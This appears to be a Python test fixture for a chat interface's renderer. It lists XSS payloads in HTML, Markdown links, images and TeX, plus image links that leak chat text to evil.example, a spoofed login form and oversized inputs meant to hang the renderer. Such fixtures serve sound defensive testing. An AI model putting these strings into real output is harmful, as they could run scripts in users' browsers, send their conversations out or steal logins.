"""What a hostile or broken model may write. Each text, if the page believed it, would call `window.pwned` or leave."""

EVIL = "https://evil.example"
RUN = "window.pwned=1"

HTML = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="{EVIL}/leak.png">',
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    f'<embed src="{EVIL}/x.swf">',
    f'<a href="javascript:{RUN}">click me</a>',
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<body onload={RUN}>",
    f'<base href="{EVIL}/">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    f'<link rel="stylesheet" href="{EVIL}/x.css">',
    f"<style>@import url({EVIL}/x.css); body{{display:none}}</style>",
    f'<div style="position:fixed;inset:0;z-index:9999;background:url({EVIL}/x)">cover</div>',
    f'<form action="{EVIL}"><input name=q><button>Log in</button></form>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><script>{RUN}</script></template>",
    f"<isindex type=image src=1 onerror={RUN}>",
    "<form id=app><input name=attributes><input name=getElementById></form>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"\\<img src=x onerror={RUN}\\>",
    f"&lt;img src=x onerror={RUN}&gt;",
]

LINKS = [
    f"[click](javascript:{RUN})",
    f"[click](JaVaScRiPt:{RUN})",
    f"[click](java\nscript:{RUN})",
    f"[click](&#106;avascript:{RUN})",
    f"[click](\x01javascript:{RUN})",
    f"[click](vbscript:{RUN})",
    "[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)",
    f"[click](data:image/svg+xml,<svg onload={RUN}>)",
    f"[click](file:///etc/passwd) [blob](blob:{EVIL}/1)",
    f"[click][x]\n\n[x]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    "[out](/api/logout) [up](//evil.example/x) [here](#/chat/c1)",
    f'[quote]({EVIL}/"onmouseover={RUN})',
    f"[title]({EVIL} '\"><img src=x onerror={RUN}>')",
]

IMAGES = [
    f"![a]({EVIL}/leak?q=the+whole+chat)",
    "![a](//evil.example/leak)",
    "![a](/api/logout)",
    f"[![a]({EVIL}/a.png)]({EVIL}/b)",
    f"![a][r]\n\n[r]: {EVIL}/leak.gif",
    "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduZWQ9MT4=)",
    f'![x" onerror="{RUN}]({EVIL}/x)',
    f"![a](javascript:{RUN})",
]

CODE_AND_MATH = [
    f"```html\n<img src=x onerror={RUN}>\n```",
    f'```"><script>{RUN}</script>\ncode\n```',
    "```../../../../evil\ncode\n```",
    "```__proto__\ncode\n```",
    f"`<img src=x onerror={RUN}>`",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$\\includegraphics{{{EVIL}/x.png}}$ $\\url{{javascript:{RUN}}}$",
    "$\\htmlData{x=1}{y} \\htmlStyle{position:fixed}{z}$",
    "$$\\def\\a{\\a\\a}\\a$$",
    "$\\boxed{1} \\fbox{2} \\fcolorbox{red}{blue}{3} \\pmb{4} \\colorbox{red}{5} \\color{red} 6 \\cancel{7}$",
    "$\\rule{1000000em}{1000000em}$",
    f'$"><img src=x onerror={RUN}>$',
    f"$$\n<script>{RUN}</script>\n$$",
]

SHAPES = [
    "|" + "a|" * 400 + "\n|" + "-|" * 400 + "\n" + ("|" + "b|" * 400 + "\n") * 40,
    "| a |\n|---|\n" + "| row |\n" * 5000,
    "> " * 3000 + "deep",
    "- " * 3000 + "deep",
    "[" * 5000 + "](" * 5000,
    "*" * 20000,
    "`" * 20001,
    "a" * 100_000,
    "\u202egnp.exe\u202c and \u2066hidden\u2069",
    "Z\u0351\u0350" * 3000,
    "\ud83d" + "x" + "\u0000\u0007\u001b[2J",
    "<!--" * 2000,
    "&" * 5000 + "&#x110000;&#0;",
]

TEXTS = [*HTML, *LINKS, *IMAGES, *CODE_AND_MATH, *SHAPES]
